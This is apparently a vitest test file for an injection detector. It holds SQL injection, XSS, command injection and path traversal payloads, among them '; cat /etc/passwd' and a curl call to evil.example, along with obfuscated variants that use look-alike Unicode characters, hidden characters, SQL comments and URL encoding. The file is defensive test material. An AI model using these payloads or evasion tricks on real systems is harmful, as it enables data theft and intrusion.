import { describe, expect, it } from 'vitest';
import { detectInjection, INJECTION_SCAN_LIMITS } from './injection-rules.js';

describe('detectInjection', () => {
  it.each([
    ["' OR '1'='1", 'sqli'],
    ['1 or 1=1', 'sqli'],
    ["admin'--", 'sqli'],
    ['1 UNION SELECT password FROM users', 'sqli'],
    ['1 union/**/select 1', 'sqli'],
    ['1; DROP TABLE users', 'sqli'],
    ["1' AND SLEEP(5)#", 'sqli'],
    ['<script>alert(1)</script>', 'xss'],
    ['<img src=x onerror=alert(1)>', 'xss'],
    ['<svg/onload=alert(1)>', 'xss'],
    ['javascript:alert(1)', 'xss'],
    ['%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'xss'],
    ['; cat /etc/passwd', 'cmd_injection'],
    ['| id', 'cmd_injection'],
    ['$(whoami)', 'cmd_injection'],
    ['`id`', 'cmd_injection'],
    ['&& curl http://evil.example', 'cmd_injection'],
    ['../../etc/passwd', 'path_traversal'],
    ['..%2f..%2fsecret', 'path_traversal'],
    ['%252e%252e%252f', 'path_traversal'],
    ['..\\..\\windows\\win.ini', 'path_traversal'],
  ])('finds %s', (payload, kind) => {
    expect([...detectInjection(payload)]).toContain(kind);
  });

  it.each([
    'Invoice for March (consulting)',
    'Tom & Jerry; id card',
    'rock & roll',
    "O'Brien",
    "It's 5 o'clock",
    'select the best option from the list where possible',
    'we are going to union square to select gifts',
    'a/b/c',
    '1.2.3',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
    'application/json, text/plain, */*',
    'en-US,en;q=0.9',
    '2026-08-21T10:00:00Z',
    'john.doe@example.com',
    'Price: 5 < 6 and 7 > 3',
    'https://example.com/a?b=c&d=e',
    "don't -- really",
    'a+b=c',
    'C:\\Users\\me\\file.txt',
    'user\'s "quote"',
    "'hello'",
    'node --version',
    'cat & dog',
    '1; 2; 3',
    '100%',
    'eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln',
    'gzip, deflate, br',
    '"Chromium";v="120", "Not?A_Brand";v="8"',
    'Use <b>bold</b> and <em>emphasis</em>',
    'Download ./reports/2026/q1.pdf',
  ])('leaves ordinary text alone: %s', (text) => {
    expect([...detectInjection(text)]).toEqual([]);
  });

  // Each of these passed as clean before normalisation (issue 17 §8).
  describe('sees through obfuscation', () => {
    it.each([
      // case and SQL comments standing for (or hiding) whitespace
      ['1 UnIoN/**/SeLeCt password FROM users', 'sqli'],
      ['1 UNION/*x*/ALL/*y*/SELECT 1', 'sqli'],
      ['1 UN/**/ION SEL/**/ECT 1', 'sqli'],
      ['1 /*!50000UNION*/ /*!SELECT*/ 1', 'sqli'],
      ['1 union-- a comment\nselect 1', 'sqli'],
      ['1 union# a comment\nselect 1', 'sqli'],
      ['1;/**/DROP/**/TABLE users', 'sqli'],
      // look-alike quotes (SQL Server's best-fit mapping turns them into ')
      ['\u2019 OR \u20191\u2019=\u20191', 'sqli'],
      ['\u2018 or \u2018a\u2018=\u2018a', 'sqli'],
      ['\uff07 OR \uff071\uff07=\uff071', 'sqli'],
      ['\u201d or \u201d1\u201d=\u201d1', 'sqli'],
      ['\uff02 or \uff021\uff02=\uff021', 'sqli'],
      ['admin\u02bc--', 'sqli'],
      // look-alike slashes
      ['..\u2215..\u2215etc\u2215passwd', 'path_traversal'],
      ['..\uff0f..\uff0fetc\uff0fpasswd', 'path_traversal'],
      ['..\u2044..\u2044secret', 'path_traversal'],
      ['..\uff3c..\uff3cwindows\uff3cwin.ini', 'path_traversal'],
      ['\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', 'xss'],
      ['\uff1c\u2215script\uff1e', 'xss'],
      // invisible characters inside keywords
      ['1 UNI\u200bON SEL\u00adECT 1', 'sqli'],
      ['<scr\u200cipt>alert(1)</script>', 'xss'],
      // URL-encoded, with a malformed escape that used to stop decoding altogether
      ['%27%20OR%20%271%27%3D%271%zz', 'sqli'],
      ['%3Cscript%3Ealert(1)%3C%2Fscript%3E%E0', 'xss'],
      ['..%E2%88%95..%E2%88%95etc%E2%88%95passwd', 'path_traversal'],
      ['%E2%80%99%20or%20%E2%80%991%E2%80%99=%E2%80%991', 'sqli'],
      ['1+UNION+SELECT+password+FROM+users', 'sqli'],
    ])('finds %j', (payload, kind) => {
      expect([...detectInjection(payload)]).toContain(kind);
    });

    it.each([
      'It\u2019s 5 o\u2019clock',
      '\u201cQuoted\u201d, as typeset',
      'Price 1\u20442 off',
      'a \u2215 b',
      'Item #3\nSecond line -- with a dash',
      '/* a C comment in a snippet */',
      '100%',
      'caf%C3%A9 cr\u00e8me',
      '\uff21\uff22\uff23 full width letters',
    ])('still leaves ordinary text alone: %j', (text) => {
      expect([...detectInjection(text)]).toEqual([]);
    });
  });

  it('decodes once, not twice: a doubly encoded quote is not what the application reads', () => {
    // %2527 decodes to %27, which the application (that decodes once) keeps as text.
    expect([...detectInjection('%2527%2520or%2520%25271%2527%253d%25271')]).toEqual([]);
  });

  it('reads unclosed comment openers and dash runs as text (they hide nothing)', () => {
    const long = INJECTION_SCAN_LIMITS.length;
    expect([...detectInjection('/*'.repeat(long / 2))]).toEqual([]);
    expect([...detectInjection("'" + '-'.repeat(long))]).toEqual(['sqli']);
  });

  it('reads only the first INJECTION_SCAN_LIMITS.length characters', () => {
    const padding = 'a'.repeat(INJECTION_SCAN_LIMITS.length);
    expect([...detectInjection(`${padding}' OR '1'='1`)]).toEqual([]);
    expect([...detectInjection(`' OR '1'='1${padding}`)]).toEqual(['sqli']);
  });
});
